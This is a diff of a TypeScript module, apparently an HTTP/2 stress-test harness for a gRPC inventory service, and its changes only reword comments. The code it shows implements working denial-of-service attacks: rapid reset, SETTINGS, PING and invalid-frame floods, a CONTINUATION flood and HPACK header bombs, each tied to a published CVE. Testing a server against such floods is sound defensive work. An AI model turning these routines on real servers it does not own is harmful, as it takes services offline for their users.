@@ -13,15 +13,15 @@ import {
   SETTINGS,
 } from "./raw-client.ts";
 
-// Frames and headers in such numbers and sizes as no client sends.
+// Frames and headers in abnormal numbers and sizes.
 
 const GET_STOCK = "/inventory.v1.StockService/GetStock";
 const HELLO = Buffer.concat([PREFACE, SETTINGS]);
 const CANCEL = Buffer.of(0, 0, 0, 8);
-/** What a busy machine may take to refuse a head for its size: less than the 10 s after which any head is refused. */
+/** Time to reject a head for its size on a busy machine: less than the 10 s after which any head is rejected. */
 const REFUSED_MS_MAX = 8_000;
 
-/** Streams that are opened and reset at once (CVE-2023-44487), on one connection after the other. */
+/** Streams that are opened and reset at once (CVE-2023-44487), on consecutive connections. */
 export const rapidReset: Attack = async ({ port, times }) => {
   const block = postBlock(GET_STOCK);
   let resets = 0;
@@ -42,17 +42,17 @@ export const rapidReset: Attack = async ({ port, times }) => {
   return `${resets} streams reset on ${connections} connections`;
 };
 
-/** SETTINGS by the ten thousand from a client that reads no acknowledgement. */
+/** Ten thousands of SETTINGS frames from a client that does not read the acknowledgements. */
 export const settingsFlood: Attack = ({ port, times }) => {
   const entries = Buffer.concat(Array.from({ length: 6 }, (_, id) => Buffer.of(0, id + 1, 0, 0, 1, 0)));
   return flood(port, times, Buffer.concat([frame(FRAME.settings, 0, 0, entries), SETTINGS]));
 };
 
-/** PINGs whose answers nobody reads (CVE-2019-9512). */
+/** PINGs from a client that does not read the replies (CVE-2019-9512). */
 export const pingFlood: Attack = ({ port, times }) =>
   flood(port, times, frame(FRAME.ping, 0, 0, randomBytes(8)));
 
-/** Resets, window updates and priorities of streams that never were. */
+/** Resets, window updates and priorities of streams that do not exist. */
 export const invalidFrames: Attack = ({ port, times }) =>
   flood(
     port,
@@ -82,7 +82,7 @@ async function flood(port: number, times: number, frames: Buffer): Promise<strin
   return `${Math.round(sent / 1_024)} KB of frames; ${cut} of ${clients.length} connections cut`;
 }
 
-/** A header block that never ends (CVE-2024-27316). */
+/** An endless header block (CVE-2024-27316). */
 export const continuationFlood: Attack = async ({ port, times }) => {
   const more = frame(FRAME.continuation, 0, 1, field("x", "a".repeat(8_000)));
   let sent = 0;
@@ -100,14 +100,14 @@ export const continuationFlood: Attack = async ({ port, times }) => {
   return `${Math.round(sent / 1_024)} KB of CONTINUATION`;
 };
 
-/** Heads that are long, have many fields, or are small and become large (an HPACK bomb, CVE-2016-6581). */
+/** Heads that are long, have many fields, or expand (an HPACK bomb, CVE-2016-6581). */
 export const headerBombs: Attack = async ({ port, times }) => {
   const pairs = Array.from({ length: 500 }, (_, each) => field(`x-${each}`, "a"));
   const seed = indexedField("bomb", "b".repeat(3_900));
   const blocks = [
     Buffer.concat([postBlock(GET_STOCK), ...pairs]),
     Buffer.concat([postBlock(GET_STOCK), field("x", "a".repeat(15_000))]),
-    // 0xbe names the newest field of the table: 12,000 bytes that say 47 MB.
+    // 0xbe refers to the newest field of the table: 12,000 bytes expand to 47 MB.
     Buffer.concat([postBlock(GET_STOCK), seed, Buffer.alloc(12_000, 0xbe)]),
   ];
   const heads = [
